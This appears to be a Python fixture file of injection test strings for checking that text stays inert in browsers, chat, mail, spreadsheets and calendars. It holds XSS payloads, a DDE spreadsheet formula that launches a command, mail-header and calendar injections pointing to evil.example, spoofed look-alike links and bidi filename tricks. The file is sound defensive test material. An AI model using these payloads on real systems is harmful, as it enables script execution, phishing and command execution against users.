"""Texts that mean something to a browser, a chat, a mail, a spreadsheet or a calendar, and must stay text."""

from __future__ import annotations

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u2060\ufeff\u00ad"

CORPUS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script that closes": '"></textarea></title></script><script>alert(1)</script>',
    "handler": '"><img src=x onerror=alert(1)>',
    "handler in an attribute": "x' onmouseover='alert(1)\" autofocus onfocus=\"alert(1)",
    "svg": "<svg/onload=alert(1)>",
    "javascript link": "javascript:alert(1)",
    "javascript link, spelt oddly": "JaVaScRiPt&colon;alert(1)",
    "javascript link, broken up": "java\tscript:alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "link of another's name": "https://github.com@evil.example/login",
    "link in look-alike letters": "https://g\u0456thub.com/login",
    "link with a backslash": "https://github.com\\@evil.example/",
    "markdown link": "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    "markdown block": "# heading\n- [ ] task\n> quote\n```\ncode\n| a | b |\n|---|---|",
    "template": "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "htmx": '" hx-get="https://evil.example" hx-trigger="load',
    "bidi": f"user{BIDI}gpj.exe",
    "zero width": f"pay{ZERO_WIDTH}ments",
    "emoji": "💥👩\u200d💻🏳️\u200d🌈 flag",
    "controls": "\x01\x07\x08\x1b[31mred\x7f\x85\u2028\u2029end",
    "10,000 characters": "x" * 10_000,
    "10,000 wide ones": "漢" * 10_000,
    "many words": "word " * 2_000,
    "combining": "z" + "\u0301" * 2_000,
    "formula": "=cmd|' /C calc'!A0",
    "formula behind a tab": '\t=HYPERLINK("https://evil.example")',
    "formula of another sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, full width": "＝1+1",
    "formula behind a line": 'a\r\n=1+1,"b"',
    "minus": "-2+3",
    "header": "x\r\nBcc: everyone@evil.example\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example",
    "slack": "<!channel> <!here> <@U0123456789> <#C0123456789> <https://evil.example|payments> &lt;!channel&gt;",
    "mentions": "@channel @here @everyone",
    "nothing": " \t ",
}
"""By what it is."""
